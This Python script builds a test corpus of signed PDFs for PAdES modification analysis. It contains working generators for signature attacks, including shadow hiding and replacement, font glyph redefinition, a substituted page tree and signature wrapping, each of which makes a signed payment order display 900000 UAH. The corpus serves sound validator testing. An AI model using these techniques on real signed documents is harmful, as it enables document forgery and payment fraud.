#!/usr/bin/env python3
"""The PAdES modification-analysis corpus: a small signed PDF, incremental
updates of it that must make its signature fail (attacks), and later revisions
that must leave it valid (form filling, comments, further signatures, DSS).

Usage: make_corpus.py KEY_PEM KEY_PASSPHRASE CERT_PEM CHAIN_PEM OUT_DIR

KEY_PEM is the signer's (encrypted) PKCS#8 key, CERT_PEM its certificate,
CHAIN_PEM the issuing CA certificate(s). OUT_DIR receives the PDFs and
manifest.json: a list of {"file", "attack", "what"} and, where pyHanko's
default difference policy disagrees with the expected verdict, "pyhanko":
"accepts" | "rejects" and "pyhanko_why".

Only pyHanko and its pyhanko.pdf_utils are used. The unsigned base document
and every update written here have fixed document identifiers and dates; what
pyHanko signs carries the signing time and a randomised ECDSA signature, so
signed files differ from run to run.
"""
import hashlib
import json
import os
import sys
from datetime import datetime, timezone
from io import BytesIO

from pyhanko.keys import load_certs_from_pemder
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.sign.validation.dss import DocumentSecurityStore

FIXED_DATE = datetime(2025, 3, 14, 9, 26, 53, tzinfo=timezone.utc)
LATER_DATE = datetime(2025, 3, 15, 10, 0, 0, tzinfo=timezone.utc)
DOC_ID = hashlib.sha256(b"dossier pades attack corpus").digest()[:16]

N = pdf_name


def num(*values):
    return generic.ArrayObject(generic.NumberObject(v) for v in values)


def stream(data: bytes, **entries) -> generic.StreamObject:
    d = generic.DictionaryObject({N("/" + k): v for k, v in entries.items()})
    return generic.StreamObject(d, stream_data=data)


def form_xobject(data: bytes, bbox, resources=None) -> generic.StreamObject:
    entries = {"Type": N("/XObject"), "Subtype": N("/Form"), "BBox": num(*bbox)}
    if resources is not None:
        entries["Resources"] = resources
    return stream(data, **entries)


def pin_writer(w, name: str, touch_info_date=None):
    """Make a writer's output reproducible: a fixed second /ID half, and the
    /Info dictionary either left alone or given a fixed /ModDate (instead of
    pyHanko's "now" and producer string)."""
    id1 = w._document_id[0]
    w._document_id = generic.ArrayObject(
        [id1, generic.ByteStringObject(hashlib.sha256(name.encode()).digest()[:16])]
    )

    def update_meta():
        if touch_info_date is not None and w._info is not None:
            w._info.get_object()[N("/ModDate")] = generic.pdf_date(touch_info_date)
            w.mark_update(w._info)

    w._update_meta = update_meta
    return w


def replace_object(w, ref, new_obj):
    """Overwrite an existing object (same number) in an incremental update."""
    w.objects[(ref.generation, ref.idnum)] = new_obj


def text_field_appearance(w, font_ref, value: str, width: int, height: int):
    data = (
        b"/Tx BMC q BT /Helv 12 Tf 0 g 2 7 Td ("
        + value.encode("latin-1")
        + b") Tj ET Q EMC"
    )
    res = generic.DictionaryObject({N("/Font"): generic.DictionaryObject({N("/Helv"): font_ref})})
    return w.add_object(form_xobject(data, (0, 0, width, height), res))


# ---------------------------------------------------------------------------
# The base document.
# ---------------------------------------------------------------------------

PAGE_TEXT = (
    b"BT /Helv 24 Tf 72 760 Td (Pay 100 UAH) Tj ET\n"
    # the shadow: a hidden text, then a white cover drawn over it
    b"q 1 0 0 1 72 700 cm /Shadow Do Q\n"
    b"q 1 0 0 1 72 700 cm /Cover Do Q\n"
    # the terms, a visible Form XObject; /Draft sits unused in the resources
    b"q 1 0 0 1 72 650 cm /Terms Do Q\n"
    b"BT /Helv 12 Tf 72 600 Td (Amount:) Tj 0 -40 Td (Note:) Tj ET\n"
)


def build_base(path: str):
    w = PdfFileWriter(stream_xrefs=False, init_page_tree=False)
    w._document_id = generic.ArrayObject([generic.ByteStringObject(DOC_ID)] * 2)
    info = generic.DictionaryObject(
        {
            N("/Title"): pdf_string("Dossier attack corpus: payment order"),
            N("/Producer"): pdf_string("Dossier make_corpus.py"),
            N("/CreationDate"): generic.pdf_date(FIXED_DATE),
            N("/ModDate"): generic.pdf_date(FIXED_DATE),
        }
    )
    w._info = w.add_object(info)
    w._update_meta = lambda: None

    font = w.add_object(
        generic.DictionaryObject(
            {
                N("/Type"): N("/Font"),
                N("/Subtype"): N("/Type1"),
                N("/BaseFont"): N("/Helvetica"),
                N("/Encoding"): N("/WinAnsiEncoding"),
            }
        )
    )
    font_res = generic.DictionaryObject({N("/Font"): generic.DictionaryObject({N("/Helv"): font})})
    shadow = w.add_object(
        form_xobject(b"BT /Helv 24 Tf 0 10 Td (Pay 900000 UAH) Tj ET", (0, 0, 300, 40), font_res)
    )
    cover = w.add_object(form_xobject(b"1 g 0 0 300 40 re f", (0, 0, 300, 40)))
    terms = w.add_object(
        form_xobject(
            b"BT /Helv 12 Tf 0 10 Td (Terms: payable within 30 days) Tj ET", (0, 0, 400, 30), font_res
        )
    )
    draft = w.add_object(
        form_xobject(
            b"BT /Helv 12 Tf 0 10 Td (Terms: prepaid, 900000 UAH, no refunds) Tj ET",
            (0, 0, 400, 30),
            font_res,
        )
    )
    resources = w.add_object(
        generic.DictionaryObject(
            {
                N("/Font"): generic.DictionaryObject({N("/Helv"): font}),
                N("/XObject"): generic.DictionaryObject(
                    {N("/Shadow"): shadow, N("/Cover"): cover, N("/Terms"): terms, N("/Draft"): draft}
                ),
                N("/ProcSet"): generic.ArrayObject([N("/PDF"), N("/Text")]),
            }
        )
    )
    contents = w.add_object(stream(PAGE_TEXT))
    pages = w.add_object(
        generic.DictionaryObject({N("/Type"): N("/Pages"), N("/Count"): generic.NumberObject(1)})
    )
    page = w.add_object(
        generic.DictionaryObject(
            {
                N("/Type"): N("/Page"),
                N("/Parent"): pages,
                N("/MediaBox"): num(0, 0, 595, 842),
                N("/Resources"): resources,
                N("/Contents"): contents,
            }
        )
    )
    pages.get_object()[N("/Kids")] = generic.ArrayObject([page])

    def text_field(name, rect, value):
        field = generic.DictionaryObject(
            {
                N("/FT"): N("/Tx"),
                N("/T"): pdf_string(name),
                N("/DA"): pdf_string("/Helv 12 Tf 0 g"),
                N("/Type"): N("/Annot"),
                N("/Subtype"): N("/Widget"),
                N("/Rect"): num(*rect),
                N("/F"): generic.NumberObject(4),
                N("/P"): page,
                N("/MK"): generic.DictionaryObject({N("/BC"): num(0)}),
            }
        )
        if value is not None:
            field[N("/V")] = pdf_string(value)
        ap = text_field_appearance(w, font, value or "", rect[2] - rect[0], rect[3] - rect[1])
        field[N("/AP")] = generic.DictionaryObject({N("/N"): ap})
        return w.add_object(field)

    amount = text_field("amount", (150, 592, 350, 616), "100")
    note = text_field("note", (150, 552, 500, 576), None)

    square_ap = w.add_object(
        form_xobject(b"1 0 0 RG 2 w 1 1 158 48 re S", (0, 0, 160, 50))
    )
    square = w.add_object(
        generic.DictionaryObject(
            {
                N("/Type"): N("/Annot"),
                N("/Subtype"): N("/Square"),
                N("/Rect"): num(60, 750, 220, 800),
                N("/C"): num(1, 0, 0),
                N("/BS"): generic.DictionaryObject({N("/W"): generic.NumberObject(2)}),
                N("/F"): generic.NumberObject(4),
                N("/T"): pdf_string("Accountant"),
                N("/Contents"): pdf_string("Amount checked"),
                N("/M"): generic.pdf_date(FIXED_DATE),
                N("/P"): page,
                N("/AP"): generic.DictionaryObject({N("/N"): square_ap}),
            }
        )
    )
    # /Annots is a direct array, as most writers make it: adding a comment
    # later rewrites the page dictionary.
    page.get_object()[N("/Annots")] = generic.ArrayObject([amount, note, square])

    acroform = w.add_object(
        generic.DictionaryObject(
            {
                N("/Fields"): generic.ArrayObject([amount, note]),
                N("/DR"): generic.DictionaryObject(
                    {N("/Font"): generic.DictionaryObject({N("/Helv"): font})}
                ),
                N("/DA"): pdf_string("/Helv 0 Tf 0 g"),
            }
        )
    )
    w.root[N("/Pages")] = pages
    w.root[N("/AcroForm")] = acroform
    with open(path, "wb") as f:
        w.write(f)


# ---------------------------------------------------------------------------
# Signing with pyHanko.
# ---------------------------------------------------------------------------


def sign(signer, src: str, dst: str, field: str, certify=False, lock_amount=False, bytes_reserved=None):
    spec = fields.SigFieldSpec(
        sig_field_name=field,
        field_mdp_spec=(
            fields.FieldMDPSpec(fields.FieldMDPAction.INCLUDE, fields=["amount"]) if lock_amount else None
        ),
    )
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=certify,
        docmdp_permissions=fields.MDPPerm.FILL_FORMS,
        reason="Payment order approved",
        location="Kyiv",
    )
    with open(src, "rb") as inf:
        w = IncrementalPdfFileWriter(inf)
        if lock_amount:
            # pyHanko 0.38 workaround: its in-place appearance check
            # (_allow_in_place_appearance_update) asks whether a field's /AP /N
            # stream was last written *in* the signed revision, not *at or
            # before* it, so a locked field whose appearance predates the
            # signing revision is reported as "updated" by every later
            # revision (a DSS, a second signature, any form filling) and the
            # signature fails. Rewriting that stream unchanged in the signing
            # revision, as viewers that refresh appearances on signing do,
            # keeps pyHanko's verdicts about the real changes.
            w.mark_update(field_ref(w, "amount").get_object()["/AP"].raw_get("/N"))
        out = BytesIO()
        signers.sign_pdf(w, meta, signer, new_field_spec=spec, output=out, bytes_reserved=bytes_reserved)
    with open(dst, "wb") as f:
        f.write(out.getvalue())


# ---------------------------------------------------------------------------
# Incremental updates.
# ---------------------------------------------------------------------------


class Update:
    """An incremental update of `src`, written to `dst` on exit."""

    def __init__(self, src: str, dst: str, touch_info_date=None):
        self.src, self.dst, self.date = src, dst, touch_info_date

    def __enter__(self):
        self.inf = open(self.src, "rb")
        self.w = pin_writer(IncrementalPdfFileWriter(self.inf), os.path.basename(self.dst), self.date)
        return self.w

    def __exit__(self, exc_type, exc, tb):
        try:
            if exc_type is None:
                out = BytesIO()
                self.w.write(out)
                with open(self.dst, "wb") as f:
                    f.write(out.getvalue())
        finally:
            self.inf.close()


def first_page(w):
    return w.root["/Pages"]["/Kids"].raw_get(0)


def field_ref(w, name):
    for f in w.root["/AcroForm"]["/Fields"]:
        if f.get_object().get("/T") == name:
            return f
    raise KeyError(name)


def square_ref(w):
    for a in first_page(w).get_object()["/Annots"]:
        if a.get_object().get("/Subtype") == "/Square":
            return a
    raise KeyError("Square")


def helv_ref(w):
    return first_page(w).get_object()["/Resources"]["/Font"].raw_get("/Helv")


def new_page(w, parent, text: bytes):
    font_res = generic.DictionaryObject(
        {N("/Font"): generic.DictionaryObject({N("/Helv"): helv_ref(w)})}
    )
    contents = w.add_object(stream(b"BT /Helv 24 Tf 72 760 Td (" + text + b") Tj ET"))
    return w.add_object(
        generic.DictionaryObject(
            {
                N("/Type"): N("/Page"),
                N("/Parent"): parent,
                N("/MediaBox"): num(0, 0, 595, 842),
                N("/Resources"): font_res,
                N("/Contents"): contents,
            }
        )
    )


def fill_field(src, dst, name, value, date=LATER_DATE):
    """What a viewer does: the field's /V set and a new appearance stream."""
    with Update(src, dst, touch_info_date=date) as w:
        ref = field_ref(w, name)
        field = ref.get_object()
        rect = [int(float(x)) for x in field["/Rect"]]
        ap = text_field_appearance(w, helv_ref(w), value, rect[2] - rect[0], rect[3] - rect[1])
        field[N("/V")] = pdf_string(value)
        field[N("/AP")] = generic.DictionaryObject({N("/N"): ap})
        w.mark_update(ref)


def add_comment(src, dst, date=LATER_DATE):
    """A sticky note (/Text annotation) with its own appearance, on page 1."""
    with Update(src, dst, touch_info_date=date) as w:
        page = first_page(w)
        ap = w.add_object(
            form_xobject(b"1 1 0 rg 0 0 0 RG 0.5 0.5 19 19 re B", (0, 0, 20, 20))
        )
        annot = w.add_object(
            generic.DictionaryObject(
                {
                    N("/Type"): N("/Annot"),
                    N("/Subtype"): N("/Text"),
                    N("/Rect"): num(520, 780, 540, 800),
                    N("/Contents"): pdf_string("Checked, OK to pay"),
                    N("/T"): pdf_string("Reviewer"),
                    N("/M"): generic.pdf_date(date),
                    N("/Name"): N("/Comment"),
                    N("/F"): generic.NumberObject(28),
                    N("/P"): page,
                    N("/AP"): generic.DictionaryObject({N("/N"): ap}),
                }
            )
        )
        w.register_annotation(page, annot)


def content_replaced(src, dst):
    with Update(src, dst) as w:
        ref = first_page(w).get_object().raw_get("/Contents")
        replace_object(w, ref, stream(PAGE_TEXT.replace(b"Pay 100 UAH", b"Pay 900000 UAH")))


def page_added(src, dst):
    with Update(src, dst) as w:
        pages_ref = w.root.raw_get("/Pages")
        pages = pages_ref.get_object()
        page = new_page(w, pages_ref, b"Annex: the payee is changed to account 999")
        pages["/Kids"].append(page)
        pages[N("/Count")] = generic.NumberObject(len(pages["/Kids"]))
        w.mark_update(pages_ref)


def font_redefined(src, dst):
    # Same object, same name, but the glyph for "1" is now a nine:
    # the page shows "Pay 900 UAH" without one byte of content changing.
    with Update(src, dst) as w:
        ref = helv_ref(w)
        font = ref.get_object()
        font[N("/Encoding")] = generic.DictionaryObject(
            {
                N("/Type"): N("/Encoding"),
                N("/BaseEncoding"): N("/WinAnsiEncoding"),
                N("/Differences"): generic.ArrayObject([generic.NumberObject(49), N("/nine")]),
            }
        )
        w.mark_update(ref)


def shadow_hide(src, dst):
    # The white cover over the hidden "Pay 900000 UAH" becomes empty.
    with Update(src, dst) as w:
        ref = first_page(w).get_object()["/Resources"]["/XObject"].raw_get("/Cover")
        replace_object(w, ref, form_xobject(b"", (0, 0, 300, 40)))


def shadow_replace(src, dst):
    # The resources' /Terms now name the /Draft form, present but unused when signed.
    with Update(src, dst) as w:
        res_ref = first_page(w).get_object().raw_get("/Resources")
        xobjects = res_ref.get_object()["/XObject"]
        xobjects[N("/Terms")] = xobjects.raw_get("/Draft")
        w.mark_update(res_ref)


def annotation_appearance_replaced(src, dst):
    # The accountant's red box stream is rewritten in place: now a big "VOID" cross.
    with Update(src, dst) as w:
        ap_ref = square_ref(w).get_object()["/AP"].raw_get("/N")
        replace_object(
            w, ap_ref, form_xobject(b"0 0 1 RG 4 w 0 0 m 160 50 l S 0 50 m 160 0 l S", (0, 0, 160, 50))
        )


def root_hidden_page_tree(src, dst):
    # A new page tree; the old one stays in the file, unreferenced.
    with Update(src, dst) as w:
        pages_ref = w.allocate_placeholder()
        page = new_page(w, pages_ref, b"Pay 900000 UAH")
        w.add_object(
            generic.DictionaryObject(
                {
                    N("/Type"): N("/Pages"),
                    N("/Kids"): generic.ArrayObject([page]),
                    N("/Count"): generic.NumberObject(1),
                }
            ),
            idnum=pages_ref.idnum,
        )
        w.root[N("/Pages")] = pages_ref
        w.update_root()


def javascript_on_open(src, dst):
    with Update(src, dst) as w:
        w.root[N("/OpenAction")] = generic.DictionaryObject(
            {
                N("/Type"): N("/Action"),
                N("/S"): N("/JavaScript"),
                N("/JS"): pdf_string("app.alert('Pay 900000 UAH');"),
            }
        )
        w.update_root()


def bytes_after_eof(src, dst):
    with open(src, "rb") as f:
        data = f.read()
    with open(dst, "wb") as f:
        f.write(data + b"\nThis text is not part of the signed document: pay 900000 UAH.\n")


def signature_wrapping(src, dst):
    """Signature wrapping (Mainka et al., 2019): the unused tail of the
    signature's /Contents hex string (outside the signed bytes) is cut short
    and a new page content object is written into the gap; an appended xref
    section points the page's /Contents object there. The ByteRange and the
    signed bytes are untouched."""
    with open(src, "rb") as f:
        data = bytearray(f.read())
    from pyhanko.pdf_utils.reader import PdfFileReader

    r = PdfFileReader(BytesIO(bytes(data)))
    sig = r.root["/AcroForm"]["/Fields"]
    sig = [f.get_object() for f in sig if f.get_object().get("/FT") == "/Sig"][0]["/V"]
    a, b, c, _d = (int(x) for x in sig["/ByteRange"])
    gap_start, gap_end = a + b, c  # the gap is "<hex...>"
    assert data[gap_start : gap_start + 1] == b"<" and data[gap_end - 1 : gap_end] == b">"
    der = bytes(sig["/Contents"])
    # DER length of the CMS (30 82 hh ll ...)
    assert der[0] == 0x30 and der[1] == 0x82
    used = 4 + int.from_bytes(der[2:4], "big")
    head = b"<" + der[:used].hex().upper().encode() + b">"
    contents_ref = r.root["/Pages"].raw_get("/Kids")[0].get_object().raw_get("/Contents")
    body = PAGE_TEXT.replace(b"Pay 100 UAH", b"Pay 900000 UAH")
    obj = (
        f"{contents_ref.idnum} 0 obj\n<< /Length {len(body)} >>\nstream\n".encode()
        + body
        + b"\nendstream\nendobj\n"
    )
    # the injected object hides in a literal string of a dummy key
    prefix = head + b"/DossierWrap (\n"
    obj_at = gap_start + len(prefix)
    filler = gap_end - gap_start - len(prefix) - len(obj) - 1
    assert filler >= 0, "signature gap too small"
    gap = prefix + obj + b" " * filler + b")"
    assert len(gap) == gap_end - gap_start
    data[gap_start:gap_end] = gap
    trailer = r.trailer
    prev = r.last_startxref
    size = int(trailer["/Size"])
    xref_at = len(data)
    tail = (
        b"xref\n"
        + f"{contents_ref.idnum} 1\n{obj_at:010d} 00000 n \n".encode()
        + b"trailer\n<< "
        + f"/Size {size} /Root {trailer.raw_get('/Root').idnum} 0 R "
        f"/Info {trailer.raw_get('/Info').idnum} 0 R /Prev {prev} ".encode()
        + b"/ID [<" + bytes(trailer["/ID"][0]).hex().encode() + b"> <"
        + hashlib.sha256(b"signature_wrapping").digest()[:16].hex().encode()
        + b">] >>\nstartxref\n"
        + f"{xref_at}\n%%EOF\n".encode()
    )
    with open(dst, "wb") as f:
        f.write(bytes(data) + tail)


def dss_added(src, dst, certs):
    """What an LTV step does: a /DSS with the chain in an incremental update."""
    with open(src, "rb") as f:
        data = f.read()
    out = BytesIO(data)
    w = pin_writer(IncrementalPdfFileWriter(out), os.path.basename(dst))
    DocumentSecurityStore.supply_dss_in_writer(w, None, certs=certs)
    result = BytesIO()
    w.write(result)
    with open(dst, "wb") as f:
        f.write(result.getvalue())


# ---------------------------------------------------------------------------


def main(argv):
    if len(argv) != 6:
        sys.exit(__doc__)
    key, passphrase, cert, chain, out = argv[1:]
    os.makedirs(out, exist_ok=True)
    p = lambda name: os.path.join(out, name)  # noqa: E731
    signer = signers.SimpleSigner.load(
        key, cert, ca_chain_files=[chain], key_passphrase=passphrase.encode()
    )
    if signer is None:
        sys.exit("could not load the signer's key or certificates")

    build_base(p("base.pdf"))
    # Room for the signature wrapping object in the gap.
    sign(signer, p("base.pdf"), p("signed.pdf"), "Signature1", lock_amount=True, bytes_reserved=8192)
    sign(signer, p("base.pdf"), p("certified_p2.pdf"), "Signature1", certify=True)

    manifest = []

    def entry(file, attack, what, **extra):
        manifest.append({"file": file, "attack": attack, "what": what, **extra})

    signed, certified = p("signed.pdf"), p("certified_p2.pdf")
    entry("signed.pdf", False, "The base document signed once (Signature1 locks the field amount).")
    entry("certified_p2.pdf", False, "The base document certified with DocMDP P=2 (form filling and signing allowed).")

    attacks = [
        (content_replaced, "The page's content stream rewritten in place to say Pay 900000 UAH."),
        (page_added, "A second page appended to the page tree."),
        (font_redefined, "The page font object redefined (encoding /Differences: the glyph of 1 becomes 9)."),
        (shadow_hide, "The white Form XObject covering the hidden text Pay 900000 UAH emptied."),
        (shadow_replace, "The page resources' /Terms pointed at the unused /Draft Form XObject present when signed."),
        (annotation_appearance_replaced, "The existing Square annotation's appearance stream rewritten in place."),
        (root_hidden_page_tree, "The catalogue's /Pages pointed at a new page tree with different content."),
        (javascript_on_open, "A JavaScript /OpenAction added to the catalogue."),
        (bytes_after_eof, "Text bytes appended after the last %%EOF, outside any revision."),
        (signature_wrapping, "A content object hidden in the unused /Contents padding and made live by an appended xref."),
    ]
    pyhanko_disagrees = {
        # pyHanko diffs revisions (xref sections); bytes after the last
        # %%EOF are no revision, so it sees "no modification" and, the
        # signature not covering the whole file notwithstanding, VALID.
        bytes_after_eof: dict(
            pyhanko="accepts",
            pyhanko_why="its difference analysis compares xref revisions and trailing "
            "bytes after %%EOF form none, so it finds modification level NONE",
        ),
    }
    for fn, what in attacks:
        fn(signed, p(fn.__name__ + ".pdf"))
        entry(fn.__name__ + ".pdf", True, what, **pyhanko_disagrees.get(fn, {}))

    fill_field(signed, p("locked_field_refilled.pdf"), "amount", "900000")
    entry("locked_field_refilled.pdf", True, "The field amount, locked by Signature1's FieldMDP, refilled with 900000.")

    add_comment(certified, p("certified_p2_annotation_added.pdf"))
    entry(
        "certified_p2_annotation_added.pdf",
        True,
        "A comment annotation added after a DocMDP P=2 certification (P=2 forbids annotations).",
    )

    # Legitimate later revisions.
    sign(signer, signed, p("second_signature.pdf"), "Signature2")
    entry("second_signature.pdf", False, "A second approval signature in a new field Signature2.")
    fill_field(signed, p("note_filled.pdf"), "note", "Approved for payment")
    entry("note_filled.pdf", False, "The unlocked field note filled in (/V and a new appearance stream).")
    add_comment(signed, p("comment_added.pdf"))
    entry(
        "comment_added.pdf",
        True,
        "A sticky-note comment added without certification: only DocMDP P=3 permits annotations "
        "(pyHanko's default policy never grants annotation changes either).",
    )
    dss_added(signed, p("dss_added.pdf"), list(load_certs_from_pemder([chain])))
    entry("dss_added.pdf", False, "A /DSS with the issuing CA certificate added (LTV maintenance).")
    sign(signer, certified, p("certified_p2_signed_again.pdf"), "Signature2")
    entry("certified_p2_signed_again.pdf", False, "An approval signature added after a DocMDP P=2 certification.")
    fill_field(certified, p("certified_p2_note_filled.pdf"), "note", "Approved for payment")
    entry("certified_p2_note_filled.pdf", False, "The field note filled in after a DocMDP P=2 certification.")

    with open(p("manifest.json"), "w") as f:
        json.dump(manifest, f, indent=2)
        f.write("\n")


if __name__ == "__main__":
    main(sys.argv)
